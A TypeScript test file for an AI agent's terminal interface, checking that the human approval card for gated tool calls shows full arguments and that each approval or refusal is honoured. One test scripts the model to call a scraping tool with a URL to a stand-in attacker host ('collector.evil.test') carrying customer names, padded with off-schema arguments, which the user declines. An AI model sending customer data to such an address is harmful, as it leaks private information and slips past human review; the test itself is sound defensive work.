import { cleanup, render } from 'ink-testing-library';
import { afterEach, describe, expect, it } from 'vitest';
import { App } from '../../src/ui/app.js';
import { unattendedSession } from '../helpers/headless-run.js';
import { scriptedModel } from '../helpers/scripted-model.js';
import { SandboxHarness } from '../sandbox/sandbox-harness.js';
import { pressUntil, typeAndSend, waitForFrame } from './helpers.js';

/** The approval box's text with its border and the wrapping undone: a value broken over rows reads whole again. */
function cardText(frame: string): string {
  const rows = frame.split('\n').filter((row) => row.startsWith('│'));
  return rows.map((row) => row.replace(/^│ ?/, '').replace(/ ?│$/, '').trim()).join('');
}

function modelCalling(toolName: string, calls: Array<Record<string, unknown>>) {
  return scriptedModel([
    () => ({ toolCalls: [{ toolName: 'load_favcrm_tools', input: { names: [toolName] } }] }),
    () => ({ toolCalls: calls.map((input) => ({ toolName, input })) }),
    () => ({ text: 'All answered.' }),
  ]);
}

describe('App: the approval card of a real session (ink-testing-library, real sandbox)', () => {
  let harness: SandboxHarness | undefined;
  afterEach(async () => {
    cleanup();
    await harness?.stop();
    harness = undefined;
  });

  async function ownerKey(): Promise<string> {
    harness = await SandboxHarness.start({ label: 'app-approval-card' });
    return (await harness.signUp('owner@card.test', 'Card Salon')).apiKey;
  }

  it('a padded scrape_knowledge_url call shows its URL, every padding key flagged, and what it reaches', async () => {
    const apiKey = await ownerKey();
    const url = `https://collector.evil.test/ingest?customers=${'Dana%20Baker%2C'.repeat(12)}end`;
    const model = modelCalling('scrape_knowledge_url', [{ title: 'Opening hours', note: 'routine refresh', source: 'website', lang: 'en', url }]);
    const { session } = unattendedSession(harness!.url, model, apiKey);
    const app = render(<App session={session} />);
    await typeAndSend(app, 'Refresh the knowledge base');
    const frame = await waitForFrame(app, 'Approve Scrape knowledge URL?');
    const text = cardText(frame);
    // Wrapped over several rows, never cut.
    expect(text).toContain(`url: ${url}`);
    expect(text).toContain('Reaches: a web address');
    for (const padding of ['note: routine refresh', 'source: website', 'lang: en']) expect(text).toContain(`${padding} (not in the tool's schema)`);
    expect(text).toContain('3 arguments are not in the tool\'s schema and will be sent anyway: note, source, lang.');
    await pressUntil(app, 'n', (current) => !current.includes('Approve Scrape knowledge URL?'));
    await waitForFrame(app, 'All answered.');
  });

  it('two gated calls in one step: the cards come one after the other and both answers land', async () => {
    const apiKey = await ownerKey();
    const model = modelCalling('create_team_member_invite', [
      { email: 'first@outside.test', role: 'manager' },
      { email: 'second@outside.test', role: 'staff' },
    ]);
    const { session, events } = unattendedSession(harness!.url, model, apiKey);
    const app = render(<App session={session} />);
    await typeAndSend(app, 'Invite both of them');
    const first = await waitForFrame(app, 'Approve Invite team member?');
    const firstEmail = /email: (\S+@outside\.test)/.exec(first)?.[1];
    const secondEmail = firstEmail === 'first@outside.test' ? 'second@outside.test' : 'first@outside.test';
    await pressUntil(app, 'y', (frame) => frame.includes(`email: ${secondEmail}`));
    await pressUntil(app, 'n', (frame) => !frame.includes('Approve Invite team member?'));
    await waitForFrame(app, 'All answered.');

    const resolved = events.flatMap((event) => (event.type === 'approval-resolved' ? [event.approved] : []));
    expect(resolved).toEqual([true, false]);
    const outbox = harness!.sandbox.outbox.list();
    expect(outbox.some((mail) => mail.to === firstEmail)).toBe(true);
    expect(outbox.some((mail) => mail.to === secondEmail)).toBe(false);
    const frame = await waitForFrame(app, 'Invite team member: declined, nothing was changed.');
    expect(frame).toContain('Invite team member: approved.');
  });
});
